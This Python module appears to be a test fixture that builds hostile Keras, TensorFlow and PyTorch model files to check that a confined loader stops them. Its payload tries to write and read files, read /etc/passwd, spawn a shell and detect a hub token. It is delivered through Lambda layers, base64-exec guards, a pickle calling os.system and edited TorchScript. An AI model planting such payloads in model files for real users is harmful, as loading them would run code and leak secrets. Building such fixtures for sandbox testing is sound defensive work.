"""Model files that attack whoever loads them, written by the frameworks themselves, for ``test_confined_loading.py``.

What each tries: write ``target``, read ``secret``, connect to ``port``, look at a variable, leave a process behind.
"""

from __future__ import annotations

import base64
import json
import zipfile
from pathlib import Path

#: Run inside of a model; ends the process with what came of each attempt, since frameworks wrap errors in their own.
ATTACK = """
import json, os, socket, subprocess
def tries(action):
    try:
        action()
    except BaseException as error:
        return type(error).__name__
    return "DONE"
found = {
    "write": tries(lambda: open(TARGET, "w").write("owned")),
    "read": tries(lambda: open(SECRET).read()),
    "passwd": tries(lambda: open("/etc/passwd").read()),
    "connect": tries(lambda: socket.create_connection(("127.0.0.1", PORT), 2)),
    "shell": tries(lambda: subprocess.run(["/bin/sh", "-c", "echo owned > " + TARGET], check=True)),
    "link": tries(lambda: os.symlink(SECRET, "link")),
    "parent": tries(lambda: os.kill(PARENT, 0)),
    "token": "DONE" if "HUB_TOKEN" in os.environ else "absent",
}
raise SystemExit("ATTACK " + json.dumps(found))
"""


def _attack(target: str, secret: str, port: int, parent: int) -> str:
    return f"TARGET, SECRET, PORT, PARENT = {target!r}, {secret!r}, {port}, {parent}\n{ATTACK}"


def keras_files(folder: str, **places):
    import keras

    where = Path(folder)
    code = f"exec({_attack(**places)!r}, {{}})"
    layer = keras.layers.Lambda(eval(f"lambda x: {code}"), output_shape=(2,))
    inputs = keras.Input((2,), name="x")
    model = keras.Model(inputs, keras.layers.Dense(2)(inputs))
    model.save(where / "good.h5")
    # The lambda runs when it is called; the model that holds it is written without calling it.
    model = keras.Sequential([keras.layers.InputLayer(shape=(2,)), keras.layers.Dense(2)])
    model.save(where / "evil.keras")
    config = json.loads(json.dumps(keras.saving.serialize_keras_object(layer), default=str))
    with zipfile.ZipFile(where / "evil.keras") as old:
        members = {name: old.read(name) for name in old.namelist()}
    document = json.loads(members["config.json"])
    document["config"]["layers"].append(config)
    members["config.json"] = json.dumps(document).encode()
    with zipfile.ZipFile(where / "evil.keras", "w") as new:
        for name, data in members.items():
            new.writestr(name, data)


def saved_models(folder: str, target: str, secret: str, port: int, parent: int):
    import tensorflow as tf

    where = Path(folder)

    def write(x):
        with tf.control_dependencies([tf.io.write_file(target, "owned")]):
            return {"y": tf.identity(x)}

    def read(x):
        return {"y": x + tf.cast(tf.strings.length(tf.io.read_file(secret)), tf.float32)}

    def debug(x):
        with tf.control_dependencies([tf.print("owned", output_stream=f"file://{target}")]):
            return {"y": tf.identity(x)}

    for name, function in (("write", write), ("read", read), ("debug", debug)):
        traced = tf.function(function, input_signature=[tf.TensorSpec((1, 2), tf.float32, "x")])
        tf.saved_model.save(tf.Module(), where / name, signatures=traced.get_concrete_function())


def torch_files(folder: str, **places):
    import torch

    where = Path(folder)
    program = torch.export.export(torch.nn.Linear(2, 2).eval(), (torch.zeros(1, 2),), strict=False)
    torch.export.save(program, where / "good.pt2")
    text = base64.b64encode(_attack(**places).encode())  # a guard's own quotes and line ends would be rewritten
    guard = f"exec(__import__('base64').b64decode({text!r}), {{}})"
    with zipfile.ZipFile(where / "good.pt2") as old:
        root = old.namelist()[0].partition("/")[0]
        members = {name: old.read(name) for name in old.namelist()}
    name = f"{root}/models/model.json"
    document = json.loads(members[name])
    document["guards_code"] = [guard]
    with zipfile.ZipFile(where / "guard.pt2", "w") as new:
        for member, data in members.items():
            new.writestr(member, json.dumps(document) if member == name else data)
    evil = {**members, f"{root}/data/sample_inputs/model.pt": _pickle(places["target"])}
    with zipfile.ZipFile(where / "pickle.pt2", "w") as new:
        for member, data in evil.items():
            new.writestr(member, data)

    target, secret = places["target"], places["secret"]
    # Traced once: a second trace in this process gives the class another name.
    torch.jit.trace(torch.nn.Identity(), torch.zeros(1, 2)).save(str(where / "traced.pt"))
    with zipfile.ZipFile(where / "traced.pt") as old:
        traced = {member: old.read(member) for member in old.namelist()}
    for name, text in (("saves", f'torch.save(x, "{target}")\n        return x'),
                       ("maps", f'return x + torch.from_file("{target}", True, 2)'),
                       ("reads", f'return x + torch.from_file("{secret}", False, 1, dtype=0)')):  # fmt: skip
        members = dict(traced)
        [code] = [member for member in members if member.endswith("code/__torch__/torch/nn/modules/linear.py")]
        head = "class Identity(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
        body = text.replace("\n        ", "\n    ")
        members[code] = (
            f"{head}  def forward(self: __torch__.torch.nn.modules.linear.Identity,\n    x: Tensor) -> Tensor:\n"
            f"    {_lines(body)}\n"
        ).encode()
        with zipfile.ZipFile(where / f"{name}.pt", "w") as new:
            for member, data in members.items():
                if not member.endswith(".debug_pkl"):
                    new.writestr(member, data)


def _lines(body: str) -> str:
    """TorchScript as its printer writes it: what is not used is still assigned."""
    return body.replace("torch.save", "_0 = torch.save")


def _pickle(target: str) -> bytes:
    import io

    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as made:
        made.writestr("m/data.pkl", b"cos\nsystem\n(S'echo owned > %s'\ntR." % target.encode())
        made.writestr("m/version", b"3\n")
    return inner.getvalue()
